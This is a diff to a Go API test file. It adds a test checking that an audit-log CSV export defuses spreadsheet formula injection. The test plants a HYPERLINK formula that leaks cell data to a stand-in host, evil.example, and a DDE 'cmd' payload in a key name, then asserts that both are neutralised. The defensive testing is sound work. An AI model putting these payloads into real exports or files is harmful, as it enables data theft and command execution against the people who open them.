@@ -3,6 +3,7 @@ package platformapi_test
 import (
 	"encoding/csv"
 	"net/http"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -145,6 +146,34 @@ func TestAuditTrailListsFiltersShowsDiffsAndExports(t *testing.T) {
 	require.Equal(t, http.StatusOK, b.As(t, auditor, tn.Slug, http.MethodGet, "/v1/audit-log", nil).Status)
 	marketer := b.Admin(t, tn, "marketer@brand.example", access.RoleMarketer)
 	require.Equal(t, http.StatusForbidden, b.As(t, marketer, tn.Slug, http.MethodGet, "/v1/audit-log", nil).Status)
+}
+
+func TestTheAuditExportDefusesFormulasPlantedInAuditedRequests(t *testing.T) {
+	t.Parallel()
+	b := apitest.New(t)
+	tn, owner := b.TenantWithKey(t, access.RoleOwner)
+	marketer := b.APIKey(t, tn, access.RoleMarketer)
+	// Anyone who can send a request chooses its user agent, and a refused change is audited too.
+	const ua = `=HYPERLINK("https://evil.example/?leak="&A1,"Open")`
+	refused := b.Do(t, http.MethodPost, "/v1/api-keys", marketer, map[string]any{"name": "=cmd|' /C calc'!A0", "role": "owner"}, "User-Agent", ua)
+	require.Equal(t, http.StatusForbidden, refused.Status, "%s", refused.Raw)
+
+	export := b.Do(t, http.MethodGet, "/v1/audit-log/export.csv", owner, nil)
+	require.Equal(t, http.StatusOK, export.Status, "%s", export.Raw)
+	rows, err := csv.NewReader(strings.NewReader(string(export.Raw))).ReadAll()
+	require.NoError(t, err)
+	agent := slices.Index(rows[0], "user_agent")
+	require.NotEqual(t, -1, agent)
+	var planted int
+	for _, row := range rows[1:] {
+		for i, cell := range row {
+			require.Falsef(t, strings.ContainsAny(cell[:min(len(cell), 1)], "=+@\t\r"), "column %s starts a formula: %q", rows[0][i], cell)
+		}
+		if row[agent] == "'"+ua {
+			planted++
+		}
+	}
+	require.Equal(t, 1, planted, "the planted user agent is there, defused: %s", export.Raw)
 }
 
 func TestSecretsAreWriteOnly(t *testing.T) {
